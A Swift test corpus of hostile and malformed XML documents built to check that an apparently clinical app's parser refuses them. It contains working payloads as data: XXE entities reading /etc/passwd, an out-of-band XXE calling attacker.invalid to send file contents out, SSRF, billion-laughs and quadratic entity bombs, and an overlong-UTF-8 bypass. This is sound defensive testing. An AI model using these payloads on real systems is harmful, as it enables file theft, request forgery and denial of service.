import Foundation

/// Documents that attack or confuse an XML parser, each with what Knot must do with it.
///
/// Every layer that reads outside XML (LibXML, the clinical formats, import) runs this corpus:
/// the parser must refuse the attacks quickly with the right kind of error, never read a local
/// file or the network, and accept the few safe oddities, which the schema layer then refuses
/// or accepts. Hostile payloads sit inside a chosen root element so that a higher layer can
/// wrap them in its own root and namespace (e.g. a referral letter).
///
/// Documents are built on each access of `Case.data` (some are tens of megabytes): read it once.
public enum HostileXMLCorpus {
    /// What the parser (LibXML) must do with a case.
    public enum Expectation: Sendable, Equatable {
        /// Refused by the parser; `Case.expectedKind` names the `XMLError.Kind`.
        case rejectedByParser
        /// Well-formed and accepted by the parser, but a Knot schema must refuse it (unknown
        /// root or namespace, XInclude element, duplicate ids...).
        case acceptedByParser
        /// Well-formed and harmless: the parser must accept it (the payload may still fail a
        /// particular schema).
        case acceptable
    }

    /// One hostile or odd document.
    public struct Case: Sendable, CustomStringConvertible {
        public let name: String
        /// What the case tries and why the expectation holds.
        public let intent: String
        public let expectation: Expectation
        /// Raw value of the expected `XMLError.Kind` for `.rejectedByParser`, else nil.
        public let expectedKind: String?
        private let build: @Sendable () -> Data

        init(_ name: String, _ expectation: Expectation, kind: String? = nil, intent: String, build: @escaping @Sendable () -> Data) {
            self.name = name
            self.intent = intent
            self.expectation = expectation
            self.expectedKind = kind
            self.build = build
        }

        /// The document bytes, built now.
        public var data: Data { build() }

        public var description: String { name }
    }

    /// Text that appears only if a parser read /etc/passwd into a document or a message.
    public static let leakedPasswdMarker = "root:x:0:0"

    /// All cases, with hostile payloads inside `<rootName xmlns="namespace">`.
    public static func cases(rootName: String = "referral", namespace: String = "urn:knot:referral:1") -> [Case] {
        let root = rootName
        let declaration = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        let open = "<\(root) xmlns=\"\(namespace)\">"
        let close = "</\(root)>"
        /// A document with `inner` inside the root; `prolog` goes between the declaration and the root.
        let wrap: @Sendable (String, String) -> Data = { prolog, inner in
            Data((declaration + prolog + open + "\n" + inner + "\n" + close + "\n").utf8)
        }
        /// Like `wrap` with raw bytes inserted inside the root.
        let wrapBytes: @Sendable (String, [UInt8]) -> Data = { prolog, bytes in
            var data = Data((declaration + prolog + open + "\n<note>").utf8)
            data.append(contentsOf: bytes)
            data.append(Data(("</note>\n" + close + "\n").utf8))
            return data
        }
        let text: @Sendable (String) -> Data = { Data($0.utf8) }
        let rejected = Expectation.rejectedByParser

        var cases: [Case] = []

        // MARK: DTDs and entities: every DOCTYPE is refused before any of it is processed.
        cases += [
            Case("externalEntityFile", rejected, kind: "doctypeForbidden",
                 intent: "XXE: an external entity pointing at /etc/passwd, referenced in text") {
                wrap("<!DOCTYPE \(root) [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n", "<note>&xxe;</note>")
            },
            Case("externalEntityHTTP", rejected, kind: "doctypeForbidden",
                 intent: "XXE over the network (server-side request forgery)") {
                wrap("<!DOCTYPE \(root) [<!ENTITY xxe SYSTEM \"http://127.0.0.1:9/secret\">]>\n", "<note>&xxe;</note>")
            },
            Case("externalEntityInAttributeDefault", rejected, kind: "doctypeForbidden",
                 intent: "an entity expanded through an attribute default declared in the internal subset") {
                wrap("<!DOCTYPE \(root) [<!ENTITY xxe SYSTEM \"file:///etc/passwd\"><!ATTLIST note by CDATA \"&xxe;\">]>\n",
                     "<note/>")
            },
            Case("externalDTDSystem", rejected, kind: "doctypeForbidden",
                 intent: "an external DTD subset that a validating parser would fetch") {
                wrap("<!DOCTYPE \(root) SYSTEM \"file:///etc/passwd\">\n", "<note/>")
            },
            Case("externalDTDPublic", rejected, kind: "doctypeForbidden",
                 intent: "a public identifier with a remote DTD (XHTML style)") {
                wrap("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n",
                     "<note/>")
            },
            Case("parameterEntityFile", rejected, kind: "doctypeForbidden",
                 intent: "an external parameter entity included in the internal subset") {
                wrap("<!DOCTYPE \(root) [<!ENTITY % pe SYSTEM \"file:///etc/passwd\"> %pe;]>\n", "<note/>")
            },
            Case("parameterEntityOutOfBand", rejected, kind: "doctypeForbidden",
                 intent: "out-of-band XXE: a remote DTD that would send file contents elsewhere") {
                wrap("""
                    <!DOCTYPE \(root) [<!ENTITY % file SYSTEM "file:///etc/passwd">
                    <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>

                    """, "<note>&send;</note>")
            },
            Case("billionLaughs", rejected, kind: "doctypeForbidden",
                 intent: "exponential entity expansion (10^9 copies of \"lol\")") {
                var entities = "<!ENTITY lol0 \"lol\">\n"
                for level in 1...9 {
                    entities += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
                }
                return wrap("<!DOCTYPE \(root) [\n\(entities)]>\n", "<note>&lol9;</note>")
            },
            Case("quadraticBlowup", rejected, kind: "doctypeForbidden",
                 intent: "one 50 KB entity referenced 20,000 times (1 GB when expanded)") {
                let entity = "<!ENTITY big \"" + String(repeating: "a", count: 50_000) + "\">"
                return wrap("<!DOCTYPE \(root) [\(entity)]>\n", "<note>" + String(repeating: "&big;", count: 20_000) + "</note>")
            },
            Case("deepEntityNesting", rejected, kind: "doctypeForbidden",
                 intent: "entities defined in terms of each other 60 levels deep") {
                var entities = "<!ENTITY e0 \"x\">"
                for level in 1...60 {
                    entities += "<!ENTITY e\(level) \"&e\(level - 1);&e\(level - 1);\">"
                }
                return wrap("<!DOCTYPE \(root) [\(entities)]>\n", "<note>&e60;</note>")
            },
            Case("internalSubsetAttributeDefault", rejected, kind: "doctypeForbidden",
                 intent: "a harmless-looking internal subset that silently adds attribute values") {
                wrap("<!DOCTYPE \(root) [<!ATTLIST \(root) status CDATA \"signed\">]>\n", "<note/>")
            },
            Case("doctypeAfterComment", rejected, kind: "doctypeForbidden",
                 intent: "a DOCTYPE hidden after comments and a processing instruction in the prolog") {
                wrap("<!-- cover letter -->\n<?app version=\"1\"?>\n<!-- more -->\n<!DOCTYPE \(root) [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
                     "<note>&xxe;</note>")
            },
            Case("doctypeAfterBOM", rejected, kind: "doctypeForbidden",
                 intent: "a DOCTYPE after a UTF-8 byte order mark") {
                var data = Data([0xEF, 0xBB, 0xBF])
                data.append(wrap("<!DOCTYPE \(root) [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n", "<note>&xxe;</note>"))
                return data
            },
            Case("undeclaredEntity", rejected, kind: "notWellFormed",
                 intent: "an entity reference with no DTD at all: must not be resolved or kept") {
                wrap("", "<note>&xxe;</note>")
            },
            Case("undeclaredEntityInAttribute", rejected, kind: "notWellFormed",
                 intent: "an undeclared entity reference inside an attribute value") {
                wrap("", "<note by=\"&xxe;\"/>")
            },
            Case("lowercaseDoctype", rejected, kind: "notWellFormed",
                 intent: "<!doctype> in lower case is not XML (HTML habit)") {
                wrap("<!doctype \(root)>\n", "<note/>")
            },
            Case("doctypeInsideRoot", rejected, kind: "notWellFormed",
                 intent: "a DOCTYPE after the root started") {
                wrap("", "<!DOCTYPE \(root) [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><note>&xxe;</note>")
            },
        ]

        // MARK: Size and nesting limits.
        cases += [
            Case("nesting300", rejected, kind: "tooLarge",
                 intent: "300 nested elements, over libxml2's limit of 256") {
                wrap("", String(repeating: "<n>", count: 300) + String(repeating: "</n>", count: 300))
            },
            Case("nesting100000", rejected, kind: "tooLarge",
                 intent: "100,000 nested elements: stack exhaustion in recursive code") {
                wrap("", String(repeating: "<n>", count: 100_000) + String(repeating: "</n>", count: 100_000))
            },
            Case("textNode20MB", rejected, kind: "tooLarge",
                 intent: "one 20 MB text node, over the parser's 10,000,000-byte text node limit") {
                wrap("", "<note>" + String(repeating: "A", count: 20_000_000) + "</note>")
            },
            Case("hugeAttribute", rejected, kind: "tooLarge",
                 intent: "a 12 MB attribute value, over the parser's 10,000,000-byte limit") {
                wrap("", "<note by=\"" + String(repeating: "A", count: 12_000_000) + "\"/>")
            },
            Case("hugeName", rejected, kind: "tooLarge",
                 intent: "a 60,000-character element name, over the parser's 50,000 limit") {
                wrap("", "<" + String(repeating: "n", count: 60_000) + "/>")
            },
            Case("manyAttributes", rejected, kind: "tooLarge",
                 intent: "100,000 attributes on one element (duplicate checks are quadratic in libxml2 2.9.14)") {
                var tag = "<note"
                tag.reserveCapacity(1_300_000)
                for index in 0..<100_000 {
                    tag += " a\(index)=\"1\""
                }
                return wrap("", tag + "/>")
            },
            Case("namespaceFlood", rejected, kind: "tooLarge",
                 intent: "hundreds of namespace declarations in scope (prefix lookups are linear in libxml2)") {
                var inner = ""
                for level in 0..<60 {
                    inner += "<n" + (0..<5).map { " xmlns:p\(level)x\($0)=\"urn:flood:\(level):\($0)\"" }.joined() + ">"
                }
                inner += String(repeating: "<p0x0:a/>", count: 1000)
                inner += String(repeating: "</n>", count: 60)
                return wrap("", inner)
            },
            Case("overDefaultSizeCap", rejected, kind: "tooLarge",
                 intent: "a document one byte over the default 64 MiB cap: refused before parsing") {
                var data = wrap("", "<note/>")
                data.append(Data(repeating: 0x20, count: 64 * 1024 * 1024 + 1 - data.count))
                return data
            },
        ]

        // MARK: Encodings.
        cases += [
            Case("invalidUTF8", rejected, kind: "encoding",
                 intent: "a byte (0xFF) that never occurs in UTF-8") {
                wrapBytes("", Array("pain ".utf8) + [0xFF] + Array(" score".utf8))
            },
            Case("latin1BytesDeclaredUTF8", rejected, kind: "encoding",
                 intent: "Latin-1 text (M\\xFCller) in a document that declares UTF-8") {
                wrapBytes("", [0x4D, 0xFC, 0x6C, 0x6C, 0x65, 0x72])
            },
            Case("overlongUTF8", rejected, kind: "encoding",
                 intent: "an overlong encoding of \"/\" (0xC0 0xAF), a classic filter bypass") {
                wrapBytes("", [0x2E, 0x2E, 0xC0, 0xAF, 0x65, 0x74, 0x63])
            },
            Case("encodedSurrogate", rejected, kind: "encoding",
                 intent: "a UTF-16 surrogate encoded in UTF-8 (0xED 0xA0 0x80)") {
                wrapBytes("", [0x61, 0xED, 0xA0, 0x80, 0x62])
            },
            Case("truncatedUTF8Sequence", rejected, kind: "encoding",
                 intent: "a multi-byte sequence cut short at the end of a text node") {
                wrapBytes("", [0x61, 0xE2, 0x82])
            },
            Case("nulByte", rejected, kind: "encoding",
                 intent: "a NUL byte, which C code may treat as the end of the document") {
                wrapBytes("", Array("before".utf8) + [0x00] + Array("after".utf8))
            },
            Case("utf16DeclaredButUTF8", rejected, kind: "encoding",
                 intent: "a declaration of UTF-16 on UTF-8 bytes") {
                text("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n\(open)<note/>\(close)\n")
            },
            Case("unsupportedEncoding", rejected, kind: "encoding",
                 intent: "an encoding name no one supports") {
                text("<?xml version=\"1.0\" encoding=\"KLINGON-1\"?>\n\(open)<note/>\(close)\n")
            },
            Case("utf16LEWithoutBOM", rejected, kind: "encoding",
                 intent: "UTF-16 little-endian without a byte order mark") {
                var data = Data()
                for unit in "\(open)<note/>\(close)".utf16 {
                    data.append(contentsOf: [UInt8(unit & 0xFF), UInt8(unit >> 8)])
                }
                return data
            },
            Case("utf16BEWithoutBOM", rejected, kind: "encoding",
                 intent: "UTF-16 big-endian without a byte order mark") {
                var data = Data()
                for unit in "\(open)<note/>\(close)".utf16 {
                    data.append(contentsOf: [UInt8(unit >> 8), UInt8(unit & 0xFF)])
                }
                return data
            },
            Case("utf32", rejected, kind: "encoding",
                 intent: "UTF-32 with a byte order mark, which Knot does not read") {
                var data = Data([0xFF, 0xFE, 0x00, 0x00])
                for scalar in "\(open)<note/>\(close)".unicodeScalars {
                    let value = scalar.value
                    data.append(contentsOf: [UInt8(value & 0xFF), UInt8((value >> 8) & 0xFF), UInt8((value >> 16) & 0xFF), 0])
                }
                return data
            },
            Case("utf8BOMWithLatin1Declaration", rejected, kind: "encoding",
                 intent: "a UTF-8 byte order mark contradicted by an ISO-8859-1 declaration") {
                var data = Data([0xEF, 0xBB, 0xBF])
                data.append(text("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n\(open)<note/>\(close)\n"))
                return data
            },
            Case("controlCharacter", rejected, kind: "notWellFormed",
                 intent: "a raw C0 control character (0x01), not allowed in XML 1.0") {
                wrapBytes("", [0x61, 0x01, 0x62])
            },
            Case("controlCharacterReference", rejected, kind: "notWellFormed",
                 intent: "&#1; refers to a character XML 1.0 forbids") {
                wrap("", "<note>a&#1;b</note>")
            },
            Case("nulCharacterReference", rejected, kind: "notWellFormed",
                 intent: "&#0; would smuggle a NUL into the text") {
                wrap("", "<note>a&#0;b</note>")
            },
            Case("xml11", rejected, kind: "unsupported",
                 intent: "XML 1.1, which allows control characters and which Knot does not read") {
                text("<?xml version=\"1.1\" encoding=\"UTF-8\"?>\n\(open)<note>a&#1;b</note>\(close)\n")
            },
        ]

        // MARK: Not XML at all, empty or broken.
        cases += [
            Case("emptyFile", rejected, kind: "empty", intent: "zero bytes") { Data() },
            Case("whitespaceOnly", rejected, kind: "empty", intent: "only spaces and newlines") {
                text("  \n\t\n  ")
            },
            Case("truncated", rejected, kind: "notWellFormed",
                 intent: "a document cut off mid-way, as by an interrupted transfer") {
                let full = wrap("", "<patient><name>Ada Lovelace</name><born>1815-12-10</born></patient>")
                return full.prefix(full.count / 2 + 20)
            },
            Case("pdfRenamed", rejected, kind: "unsupported",
                 intent: "a PDF referral letter saved with an .xml extension") {
                var data = Data("%PDF-1.7\n".utf8)
                data.append(contentsOf: [0x25, 0xE2, 0xE3, 0xCF, 0xD3, 0x0A])
                data.append(Data("1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n".utf8))
                return data
            },
            Case("zipRenamed", rejected, kind: "unsupported",
                 intent: "a Word document (ZIP) saved with an .xml extension") {
                var data = Data([0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00])
                data.append(Data("[Content_Types].xml".utf8))
                data.append(Data(repeating: 0, count: 32))
                return data
            },
            Case("unclosedTag", rejected, kind: "notWellFormed", intent: "an element never closed") {
                text(declaration + open + "\n<note>text\n" + close + "\n")
            },
            Case("mismatchedTags", rejected, kind: "notWellFormed", intent: "end tag does not match start tag") {
                wrap("", "<note>text</nose>")
            },
            Case("undeclaredPrefix", rejected, kind: "notWellFormed",
                 intent: "a prefix with no namespace declaration (libxml2 reports it but builds the tree anyway)") {
                wrap("", "<cda:note>text</cda:note>")
            },
            Case("reservedPrefixRebound", rejected, kind: "notWellFormed",
                 intent: "the xml prefix bound to another namespace") {
                wrap("", "<note xmlns:xml=\"urn:other\">text</note>")
            },
            Case("strayTextAfterRoot", rejected, kind: "notWellFormed", intent: "text after the root element") {
                text(declaration + open + "<note/>" + close + "\ntrailing words\n")
            },
            Case("twoRoots", rejected, kind: "notWellFormed",
                 intent: "two root elements: which one would be imported?") {
                text(declaration + open + "<note/>" + close + "\n" + open + "<note/>" + close + "\n")
            },
            Case("invalidNameStart", rejected, kind: "notWellFormed", intent: "an element name starting with a digit") {
                wrap("", "<1note>text</1note>")
            },
            Case("attributeWithoutQuotes", rejected, kind: "notWellFormed", intent: "HTML-style unquoted attribute") {
                wrap("", "<note by=alice>text</note>")
            },
            Case("duplicateAttribute", rejected, kind: "notWellFormed",
                 intent: "the same attribute twice: which value wins depends on the reader") {
                wrap("", "<note by=\"alice\" by=\"mallory\">text</note>")
            },
            Case("lessThanInAttribute", rejected, kind: "notWellFormed", intent: "an unescaped < in an attribute value") {
                wrap("", "<note by=\"a<b\">text</note>")
            },
            Case("bareAmpersand", rejected, kind: "notWellFormed", intent: "an unescaped & in text") {
                wrap("", "<note>Smith & Sons</note>")
            },
            Case("unterminatedCDATA", rejected, kind: "notWellFormed", intent: "a CDATA section never closed") {
                wrap("", "<note><![CDATA[ open forever </note>")
            },
            Case("cdataEndInText", rejected, kind: "notWellFormed", intent: "]]> outside a CDATA section") {
                wrap("", "<note>a ]]> b</note>")
            },
            Case("commentWithDoubleDash", rejected, kind: "notWellFormed", intent: "-- inside a comment") {
                wrap("", "<!-- before -- after --><note/>")
            },
            Case("piBeforeXMLDeclaration", rejected, kind: "notWellFormed",
                 intent: "a processing instruction before the XML declaration") {
                text("<?app run?>" + declaration + open + "<note/>" + close + "\n")
            },
            Case("whitespaceBeforeXMLDeclaration", rejected, kind: "notWellFormed",
                 intent: "whitespace before the XML declaration") {
                text("  " + declaration + open + "<note/>" + close + "\n")
            },
            Case("reservedPITarget", rejected, kind: "notWellFormed",
                 intent: "a processing instruction named xml inside the document") {
                wrap("", "<?xml version=\"1.0\"?><note/>")
            },
        ]

        // MARK: Parsed, but a Knot schema must refuse them.
        cases += [
            Case("xincludeEtcPasswd", .acceptedByParser,
                 intent: "XInclude of /etc/passwd: never processed, stays an element the schema refuses") {
                wrap("", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>")
            },
            Case("unknownNamespaceRoot", .acceptedByParser,
                 intent: "the right root name in a foreign namespace") {
                text(declaration + "<\(root) xmlns=\"urn:example:not-knot\"><note/></\(root)>\n")
            },
            Case("fileNamespaceRoot", .acceptedByParser,
                 intent: "a namespace URI that looks like a file path: a name, never opened") {
                text(declaration + "<\(root) xmlns=\"file:///etc/passwd\"><note/></\(root)>\n")
            },
            Case("noNamespaceRoot", .acceptedByParser, intent: "the right root name in no namespace") {
                text(declaration + "<\(root)><note/></\(root)>\n")
            },
            Case("wrongRootName", .acceptedByParser, intent: "Knot's namespace with an unknown root element") {
                text(declaration + "<somethingElse xmlns=\"\(namespace)\"><note/></somethingElse>\n")
            },
            Case("duplicateIds", .acceptedByParser,
                 intent: "two records with the same id: only the schema (xs:ID/xs:key) or the importer can tell") {
                wrap("", "<patient id=\"p1\"/><patient id=\"p1\"/>")
            },
        ]

        // MARK: Harmless: must be accepted.
        cases += [
            Case("schemaLocationElsewhere", .acceptable,
                 intent: "xsi:schemaLocation pointing at a remote schema and a local file: never followed") {
                text(declaration + "<\(root) xmlns=\"\(namespace)\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                     + "xsi:schemaLocation=\"\(namespace) http://attacker.invalid/evil.xsd urn:other file:///etc/passwd\">"
                     + "<note/></\(root)>\n")
            },
            Case("noNamespaceSchemaLocationFile", .acceptable,
                 intent: "xsi:noNamespaceSchemaLocation naming /etc/passwd: never followed") {
                text(declaration + "<\(root) xmlns=\"\(namespace)\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                     + "xsi:noNamespaceSchemaLocation=\"file:///etc/passwd\"><note/></\(root)>\n")
            },
            Case("remoteStylesheetPI", .acceptable,
                 intent: "an xml-stylesheet instruction (common in CDA): kept as data, never fetched") {
                wrap("<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.invalid/cda.xsl\"?>\n", "<note/>")
            },
            Case("cdataHidingMarkup", .acceptable,
                 intent: "markup, a DOCTYPE and entity references inside CDATA are plain text") {
                wrap("", "<note><![CDATA[<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]> &xxe; <b>bold</b>]]></note>")
            },
            Case("base64Attachment10MB", .acceptable,
                 intent: "a 10 MB base64 attachment (a scanned letter): within the cap and the text node limit") {
                let line = String(repeating: "QUJDRA==", count: 9) + "\n"
                let body = String(repeating: line, count: 10_000_000 / line.utf8.count)
                return wrap("", "<attachment mediaType=\"application/pdf\">\n" + body + "</attachment>")
            },
            Case("utf8BOM", .acceptable, intent: "a UTF-8 byte order mark, as Windows tools write") {
                var data = Data([0xEF, 0xBB, 0xBF])
                data.append(wrap("", "<note>Müller</note>"))
                return data
            },
            Case("utf16LEWithBOM", .acceptable, intent: "UTF-16 with a byte order mark, declared as such") {
                var data = Data([0xFF, 0xFE])
                let document = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n\(open)<note>Müller</note>\(close)\n"
                for unit in document.utf16 {
                    data.append(contentsOf: [UInt8(unit & 0xFF), UInt8(unit >> 8)])
                }
                return data
            },
            Case("latin1Declared", .acceptable, intent: "ISO-8859-1, declared, with a non-ASCII letter") {
                var data = Data("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n\(open)<note>M".utf8)
                data.append(0xFC)
                data.append(Data("ller</note>\(close)\n".utf8))
                return data
            },
            Case("manyAttributesWithinLimit", .acceptable, intent: "90 attributes on one element, under the limit") {
                wrap("", "<note" + (0..<90).map { " a\($0)=\"\($0)\"" }.joined() + "/>")
            },
        ]
        return cases
    }
}
